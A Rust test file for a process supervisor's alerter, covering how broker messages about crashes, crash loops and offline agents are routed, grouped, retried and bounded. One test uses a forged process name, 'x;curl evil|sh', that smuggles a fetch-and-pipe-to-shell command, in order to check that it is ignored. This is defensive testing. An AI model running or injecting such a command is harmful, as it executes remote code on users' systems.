//! The alerter between the broker and the outboxes: messages as they arrive on their topics,
//! routed to the targets that want them, grouped, and settled.

use super::*;
use crate::alerts::config::{parse, Channel};
use crate::alerts::rules::AlertKind;
use crate::alerts::testing::t;
use respawn_common::messages::MAX_REPORT_BYTES;
use std::time::Duration;

fn alerter() -> Alerter {
    let config = parse(
        r#"
        [alerts]
        group_window = "2s"

        [[target]]
        name = "everything"
        kind = "webhook"
        url = "http://hooks.lan/all"

        [[target]]
        name = "doors-loops"
        kind = "slack"
        url = "https://hooks.slack.com/services/x"
        agents = ["door-*"]
        processes = ["door*"]
        kinds = ["crash_loop", "offline"]
        min_interval = "0s"
        "#,
        PathBuf::from("/unused"),
    )
    .unwrap();
    Alerter::new(config, Topics::default(), Saved::default())
}

fn crash(process: &str, id: &str) -> Vec<u8> {
    serde_json::json!({
        "v": 1, "id": id, "seq": 1, "agent": "forged", "at": "2027-01-15T08:00:00Z",
        "process": process, "kind": "exited", "pid": 7, "status": {"code": 1},
        "runtime_ms": 5, "restarts": 0, "requested": false,
        "log_tail": [{"at": "2027-01-15T08:00:00Z", "stream": "stderr", "text": "boom"}],
    })
    .to_string()
    .into_bytes()
}

#[test]
fn messages_become_batches_for_the_targets_that_want_them() {
    let mut alerter = alerter();
    assert_eq!(
        alerter.filters(),
        [
            "respawn/v1/+/heartbeat",
            "respawn/v1/+/event",
            "respawn/v1/+/state",
            "respawn/v1/+/proc/+"
        ]
    );
    alerter.on_message(t(0), "respawn/v1/door-pi/event", &crash("doorbot", "e1"));
    alerter.on_message(t(1), "respawn/v1/door-pi/event", &crash("doorbot", "e1"));
    let looping = serde_json::json!({
        "v": 1, "id": "e2", "seq": 2, "agent": "door-pi", "at": "2027-01-15T08:00:01Z",
        "process": "doorbot", "kind": "crash_loop", "exits": 5, "window_secs": 600,
    });
    alerter.on_message(
        t(1),
        "respawn/v1/door-pi/event",
        looping.to_string().as_bytes(),
    );
    assert!(alerter.take_dirty());
    assert!(alerter.due(t(1)).is_empty(), "the grouping window is open");
    let mut due = alerter.due(t(2));
    assert_eq!(
        due.len(),
        1,
        "the slack target's window opened a second later"
    );
    due.extend(alerter.due(t(3)));
    let (everything, doors) = (&due[0], &due[1]);
    assert_eq!((everything.0, doors.0), (0, 1));
    let kinds: Vec<AlertKind> = everything.1.notices.iter().map(|n| n.key.kind).collect();
    assert_eq!(
        kinds,
        [AlertKind::Crashed, AlertKind::CrashLoop],
        "a redelivery is not a crash"
    );
    assert_eq!(
        everything.1.notices[0].key.agent, "door-pi",
        "the topic says whose"
    );
    let kinds: Vec<AlertKind> = doors.1.notices.iter().map(|n| n.key.kind).collect();
    assert_eq!(kinds, [AlertKind::CrashLoop], "only what it asked for");

    // One delivery at a time per target: nothing more until it is settled.
    alerter.on_message(t(3), "respawn/v1/door-pi/event", &crash("lights", "e3"));
    assert!(alerter.due(t(10)).is_empty());
    alerter.settle(t(10), 0, &everything.1.id, &Delivery::Delivered);
    alerter.settle(
        t(10),
        1,
        &doors.1.id,
        &Delivery::Transient("HTTP 502".into()),
    );
    let due = alerter.due(t(10));
    assert_eq!(due.len(), 1, "slack waits a second after the failure");
    assert_eq!(due[0].1.notices[0].key.process.as_deref(), Some("lights"));
    assert_eq!(alerter.due(t(11)).len(), 1, "and then tries again");

    let saved = alerter.saved();
    assert_eq!(saved.outboxes.len(), 2);
}

#[test]
fn while_the_alerter_has_no_broker_only_that_is_alerted_and_no_agent_is_timed_out() {
    let lost = serde_json::json!({"v": 1, "agent": "door-pi", "state": "lost", "session": "s1"})
        .to_string();
    let online =
        serde_json::json!({"v": 1, "agent": "door-pi", "state": "online", "session": "s2"})
            .to_string();
    // What the webhook target is sent, delivered at once, once the group window is over.
    let sent = |alerter: &mut Alerter, now: SystemTime| -> Vec<(AlertKind, Phase)> {
        alerter.tick(now);
        let now = now + Duration::from_secs(3);
        let mut sent = Vec::new();
        for (index, batch) in alerter.due(now) {
            if alerter.config.targets[index].name == "everything" {
                sent.extend(batch.notices.iter().map(|n| (n.key.kind, n.phase)));
            }
            alerter.settle(now, index, &batch.id, &Delivery::Delivered);
        }
        sent
    };
    let alerted = |cut_off: bool| {
        let mut alerter = alerter();
        alerter.on_message(t(0), "respawn/v1/door-pi/state", online.as_bytes());
        // The agent's will, just before the alerter's own connection goes too.
        alerter.on_message(t(1), "respawn/v1/door-pi/state", lost.as_bytes());
        if cut_off {
            alerter.lost_broker(t(1), "mqtt://hub.lan:1883", "the connection was lost");
            assert!(sent(&mut alerter, t(30)).is_empty(), "within grace");
            alerter.lost_broker(t(40), "mqtt://hub.lan:1883", "connection refused");
        }
        let mut all = sent(&mut alerter, t(500));
        // Back, and the retained state says the agent is there again.
        alerter.reached_broker(t(501), "mqtt://hub.lan:1883");
        alerter.on_message(t(501), "respawn/v1/door-pi/state", online.as_bytes());
        all.extend(sent(&mut alerter, t(1000)));
        all
    };
    assert_eq!(
        alerted(false),
        [
            (AlertKind::Offline, Phase::Firing),
            (AlertKind::Offline, Phase::Resolved)
        ],
        "seen offline past grace: alerted"
    );
    assert_eq!(
        alerted(true),
        [
            (AlertKind::BrokerUnreachable, Phase::Firing),
            (AlertKind::BrokerUnreachable, Phase::Resolved)
        ],
        "unseen: only the broker is alerted"
    );
    // The broker's alert passes every filter but `kinds`: the doors-only target gets it once
    // it names the kind.
    let mut alerter = alerter();
    assert!(alerter.pages_the_broker());
    alerter.config.targets[0]
        .kinds
        .retain(|k| *k != AlertKind::BrokerUnreachable);
    alerter.config.targets[1]
        .kinds
        .push(AlertKind::BrokerUnreachable);
    alerter.lost_broker(t(0), "mqtt://hub.lan:1883", "connection refused");
    alerter.tick(t(500));
    let due = alerter.due(t(503));
    assert_eq!(due.len(), 1);
    assert_eq!(alerter.config.targets[due[0].0].name, "doors-loops");
    let notice = &due[0].1.notices[0];
    assert_eq!(notice.key.agent, "mqtt://hub.lan:1883");
    assert_eq!(notice.facts.error.as_deref(), Some("connection refused"));
    assert_eq!(notice.since, t(0));
    alerter.config.targets[1].kinds.clear();
    assert!(!alerter.pages_the_broker());
}

#[test]
fn nonsense_on_any_topic_is_ignored() {
    let mut alerter = alerter();
    // A process name no agent can have, which alerts would put into the commands they
    // suggest.
    let forged = crash("x;curl evil|sh", "e1");
    for (topic, payload) in [
        ("respawn/v1/door-pi/event", &forged[..]),
        ("respawn/v1/door-pi/event", &b"not json"[..]),
        ("respawn/v1/door-pi/state", b"{\"state\":"),
        ("respawn/v1/door-pi/proc/doorbot", b"[]"),
        ("respawn/v1/door-pi/heartbeat", b"\xff"),
        ("respawn/v1/Not An Agent/event", b"{}"),
        ("elsewhere/entirely", b"{}"),
    ] {
        alerter.on_message(t(0), topic, payload);
    }
    alerter.tick(t(1000));
    assert!(alerter.due(t(1000)).is_empty());
}

#[test]
fn an_agent_that_publishes_without_end_is_held_within_bounds() {
    let mut alerter = alerter();
    let crashes = MAX_PROCESSES_READ + 10;
    for i in 0..crashes {
        let topic = "respawn/v1/door-pi/event";
        alerter.on_message(t(0), topic, &crash(&format!("p{i}"), &format!("e{i}")));
    }
    // A crash beyond what an agent sends is not read either.
    let mut huge: serde_json::Value = serde_json::from_slice(&crash("p0", "big")).unwrap();
    huge["later_field"] = "x".repeat(MAX_REPORT_BYTES).into();
    alerter.on_message(
        t(0),
        "respawn/v1/door-pi/event",
        huge.to_string().as_bytes(),
    );
    let due = alerter.due(t(10));
    let alerted: usize = due.iter().map(|(_, batch)| batch.notices.len()).sum();
    assert_eq!(
        alerted, MAX_PROCESSES_READ,
        "to the one target that takes them all"
    );
}

/// What the state file keeps of an agent's state is bounded: a session no agent makes is
/// not read, however many agents name one.
#[test]
fn a_state_with_a_session_no_agent_makes_is_not_kept() {
    let mut alerter = alerter();
    let state = |session: &str| {
        let state = serde_json::json!({"v": 1, "agent": "big", "state": "online",
            "session": session, "processes": []});
        state.to_string().into_bytes()
    };
    let before = serde_json::to_vec(&alerter.saved()).unwrap().len();
    alerter.on_message(t(0), "respawn/v1/big/state", &state(&"x".repeat(1 << 20)));
    let after = serde_json::to_vec(&alerter.saved()).unwrap().len();
    assert!(after < before + 1024, "{before} -> {after} bytes");
    alerter.on_message(t(0), "respawn/v1/big/state", &state(&"a".repeat(32)));
    let known = serde_json::to_vec(&alerter.saved()).unwrap().len();
    assert!(known > after, "an agent's own session is read");
}

#[test]
fn a_birth_naming_many_processes_is_read_whatever_its_size() {
    let mut alerter = alerter();
    let names: Vec<String> = (0..5000).map(|i| format!("process-{i:05}")).collect();
    let state = |presence: &str| {
        let state = serde_json::json!({"v": 1, "agent": "door-pi", "state": presence,
            "session": "s1", "processes": names});
        state.to_string().into_bytes()
    };
    assert!(state("lost").len() > MAX_REPORT_BYTES);
    alerter.on_message(t(0), "respawn/v1/door-pi/state", &state("online"));
    alerter.on_message(t(1), "respawn/v1/door-pi/state", &state("lost"));
    alerter.tick(t(500));
    let due = alerter.due(t(503));
    let kinds: Vec<AlertKind> = due
        .iter()
        .flat_map(|(_, batch)| batch.notices.iter().map(|n| n.key.kind))
        .collect();
    assert!(kinds.contains(&AlertKind::Offline), "{kinds:?}");
}

#[test]
fn the_state_file_defaults_to_the_alerters_own_state_directory() {
    let path = default_state_file();
    if is_root() {
        // Where the alerts unit keeps it, not in the agent's /var/lib/respawn.
        assert_eq!(path, PathBuf::from("/var/lib/respawn-alerts/alerts.json"));
    } else {
        assert!(path.ends_with("respawn/alerts.json"), "{}", path.display());
    }
}

#[test]
fn routing_by_agent_process_and_kind() {
    let target = |agents: &[&str], processes: &[&str], kinds: &[AlertKind]| TargetConfig {
        name: "t".into(),
        channel: Channel::Webhook {
            url: "http://x".into(),
        },
        agents: agents.iter().map(|s| s.to_string()).collect(),
        processes: processes.iter().map(|s| s.to_string()).collect(),
        kinds: kinds.to_vec(),
        min_interval: Duration::ZERO,
    };
    let key = |agent: &str, process: Option<&str>, kind| AlertKey {
        agent: agent.into(),
        process: process.map(str::to_owned),
        kind,
    };
    let doors = target(&["door-*"], &["doorbot"], &AlertKind::ALL);
    assert!(wants(
        &doors,
        &key("door-pi", Some("doorbot"), AlertKind::Crashed)
    ));
    assert!(!wants(
        &doors,
        &key("garage-pi", Some("doorbot"), AlertKind::Crashed)
    ));
    assert!(!wants(
        &doors,
        &key("door-pi", Some("lights"), AlertKind::Crashed)
    ));
    assert!(
        wants(&doors, &key("door-pi", None, AlertKind::Offline)),
        "agent alerts pass the process filter"
    );
    let loops = target(&["*"], &["*"], &[AlertKind::CrashLoop]);
    assert!(!wants(&loops, &key("a", Some("b"), AlertKind::Crashed)));
    assert!(wants(&loops, &key("a", Some("b"), AlertKind::CrashLoop)));
}

/// An agent says its birth again with each heartbeat: the same birth again is no news, so
/// the state file is not rewritten for it, and it ends no alert that its heartbeat would.
#[test]
fn a_birth_said_again_is_no_news() {
    let mut alerter = alerter();
    let birth = serde_json::json!({"v": 1, "agent": "door-pi", "state": "online",
        "session": "s1", "since": "2027-01-15T08:00:00Z", "heartbeat_secs": 10})
    .to_string();
    alerter.on_message(t(0), "respawn/v1/door-pi/state", birth.as_bytes());
    assert!(alerter.take_dirty(), "the first is news");
    alerter.on_message(t(10), "respawn/v1/door-pi/state", birth.as_bytes());
    assert!(!alerter.take_dirty(), "the same again is not");
    // Silent but for its births: still unresponsive, as its heartbeat says.
    for at in (20..=200).step_by(10) {
        alerter.on_message(t(at), "respawn/v1/door-pi/state", birth.as_bytes());
        alerter.tick(t(at));
    }
    assert!(
        alerter
            .rules
            .active()
            .any(|k| k.agent == "door-pi" && k.kind == AlertKind::Stale),
        "{:?}",
        alerter.rules.active().collect::<Vec<_>>()
    );
    // A will, then the birth again (the bridge's late will, mended): both are news.
    let lost = serde_json::json!({"v": 1, "agent": "door-pi", "state": "lost"}).to_string();
    alerter.on_message(t(210), "respawn/v1/door-pi/state", lost.as_bytes());
    assert!(alerter.take_dirty());
    alerter.on_message(t(211), "respawn/v1/door-pi/state", birth.as_bytes());
    assert!(alerter.take_dirty());
}

/// A restarted alerter reads every retained birth afresh: one it knew (the same session) ends
/// no agent's silence, as "back online" would say.
#[test]
fn a_restarted_alerter_takes_a_birth_it_knew_for_no_news() {
    let mut alerter = alerter();
    let birth = serde_json::json!({"v": 1, "agent": "door-pi", "state": "online",
        "session": "s1", "since": "2027-01-15T08:00:00Z", "heartbeat_secs": 10})
    .to_string();
    alerter.on_message(t(0), "respawn/v1/door-pi/state", birth.as_bytes());
    alerter.tick(t(200));
    let stale = |alerter: &Alerter| {
        alerter
            .rules
            .active()
            .any(|k| k.agent == "door-pi" && k.kind == AlertKind::Stale)
    };
    assert!(stale(&alerter), "silent since t(0)");
    // The same rules, as a restart finds them in the state file, with no digest in memory.
    let mut restarted = Alerter::new(
        alerter.config.clone(),
        Topics::default(),
        Saved {
            rules: alerter.rules.state().clone(),
            ..Saved::default()
        },
    );
    restarted.on_message(t(300), "respawn/v1/door-pi/state", birth.as_bytes());
    assert!(
        stale(&restarted),
        "still silent: the birth is the one it knew"
    );
    // Removed, then back with the same birth: news again.
    restarted.on_message(t(310), "respawn/v1/door-pi/state", b"");
    assert!(restarted.take_dirty(), "removed");
    restarted.on_message(t(311), "respawn/v1/door-pi/state", birth.as_bytes());
    assert!(restarted.take_dirty(), "news again");
}

#[test]
fn a_message_held_for_its_window_tells_its_alerts_as_they_stand_when_it_goes_out() {
    let mut alerter = alerter();
    let exited = |id: &str, seq: u64, secs: u64, restarts: u32, next: u64| {
        serde_json::json!({
            "v": 1, "id": id, "seq": seq, "agent": "door-pi",
            "at": respawn_common::time::format(t(secs)),
            "process": "lights", "kind": "exited", "pid": 7, "status": {"code": 1},
            "runtime_ms": 5, "restarts": restarts, "requested": false,
            "next_start": respawn_common::time::format(t(next)),
            "log_tail": [{"at": "2027-01-15T08:00:00Z", "stream": "stderr", "text": id}],
        })
        .to_string()
    };
    let topic = "respawn/v1/door-pi/event";
    alerter.on_message(t(0), topic, exited("first", 1, 0, 0, 1).as_bytes());
    let started = serde_json::json!({
        "v": 1, "id": "up", "seq": 2, "agent": "door-pi", "at": "2027-01-15T08:00:01Z",
        "process": "lights", "kind": "started", "pid": 8, "restarts": 1,
    });
    alerter.on_message(t(1), topic, started.to_string().as_bytes());
    // Within the webhook's 2 s window: the message that goes out at its end says this one.
    alerter.on_message(t(1), topic, exited("second", 3, 1, 1, 5).as_bytes());
    let due = alerter.due(t(2));
    let (_, batch) = due.iter().find(|(i, _)| *i == 0).expect("the webhook's");
    let [crash] = &batch.notices[..] else {
        panic!("one crash alert: {:?}", batch.notices);
    };
    assert_eq!(crash.since, t(0), "raised by the first");
    assert_eq!(crash.facts.failures, 2);
    assert_eq!(crash.facts.restarts, Some(1));
    assert_eq!(crash.facts.next_start, Some(t(5)));
    let tail: Vec<&str> = crash
        .facts
        .log_tail
        .iter()
        .map(|l| l.text.as_str())
        .collect();
    assert_eq!(tail, ["second"]);
}
